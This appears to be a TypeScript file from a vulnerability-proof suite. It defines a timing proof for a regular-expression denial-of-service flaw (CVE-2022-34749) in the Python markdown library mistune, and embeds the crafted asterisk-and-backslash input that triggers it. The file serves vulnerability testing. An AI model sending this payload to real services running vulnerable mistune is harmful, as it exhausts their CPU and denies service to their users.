import { defineProof } from '../define-proof.ts';

/** Renders a text of very many asterisks and takes the time. */
export const mistuneEmphasisTime = defineProof({
  name: 'mistune-emphasis-time',
  ids: ['CVE-2022-34749', 'GHSA-fw3v-x4f2-v673', 'PYSEC-2022-237'],
  ecosystem: 'PyPI',
  package: 'mistune',
  modules: ['mistune'],
  kind: 'redos',
  describes: 'Renders a text of very many asterisks and takes the time.',
  shownOn: { vulnerable: '2.0.2', fixed: '2.0.3' },
  source: String.raw`
import mistune


def proof(tools):
    text = "**a" + "\\" * 33 + "b"
    return tools.cpu_ms(lambda: mistune.html(text)) > 1000, "<strong>a</strong>" in mistune.html("**a**")
`,
});
